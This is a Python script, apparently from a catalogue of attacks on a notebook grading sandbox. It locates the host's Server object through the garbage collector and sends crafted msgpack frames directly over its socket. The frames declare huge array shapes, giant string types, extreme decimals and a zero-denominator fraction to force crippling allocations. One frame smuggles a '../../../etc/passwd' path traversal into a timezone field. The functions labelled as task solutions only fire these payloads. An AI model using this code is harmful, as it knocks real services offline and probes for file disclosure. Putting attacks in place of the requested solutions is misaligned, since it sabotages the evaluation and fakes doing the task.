# Tries: to have a small frame decoded into a huge value: shapes, texts and ranges that promise more than they hold.
# Earns: nothing
# Goal: denial

# %%
import gc
import struct

import msgpack

server = next(found for found in gc.get_objects() if type(found).__name__ == "Server")
TREES = [
    ["array", "<f8", [2**62, 0], b""],
    ["objects", "<U100000000", [1], ["x"]],
    ["range_index", 0, 2**62, 1, None],
    ["objects", "|O", [2**40], []],
    ["index", ["range_index", 0, 2**50, 1, None], None],
    ["periods", "10000000000000h", ["array", "<i8", [1], b"\0" * 8]],
    ["decimal", "1e999999999"],
    ["fraction", "0x1", "0x0"],
    ["datetimetz", "../../../etc/passwd", "ns", ["array", "<i8", [1], b"\0" * 8]],
]
count = 0


def say():
    global count
    packed = msgpack.packb(["list", "value", TREES[count % len(TREES)]])
    server.channel.sock.sendall(struct.pack("!I", len(packed)) + packed)
    count += 1


# %% solution="psi"
def psi(p, q):
    say()


# %% solution="errors"
def error_rate(y, predicted):
    for _ in range(9):
        say()


# %% solution="describe"
def describe(frame):
    for _ in range(5):
        say()
